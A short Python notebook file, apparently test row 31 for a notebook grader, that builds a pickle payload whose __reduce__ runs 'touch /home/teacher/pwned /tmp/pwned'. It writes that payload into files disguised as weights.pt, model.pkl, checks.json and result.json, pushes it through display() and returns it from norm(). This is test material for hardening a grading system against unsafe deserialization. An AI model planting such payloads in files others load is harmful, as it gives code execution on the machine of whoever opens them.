"""Row 31: returns, shows and leaves behind objects that run a command when they are unpickled."""

# %% double
import base64
import pickle


class Evil:
    def __reduce__(self):
        import os

        return os.system, ("touch /home/teacher/pwned /tmp/pwned",)


evil = pickle.dumps(Evil())
for name in ("weights.pt", "model.pkl", "checks.json", "result.json"):
    open(name, "wb").write(evil)
display({"application/python-pickle": base64.b64encode(evil).decode(), "text/plain": "a model"}, raw=True)


def double(x):
    return 2 * x


# %% norm
def norm(x):
    return Evil()
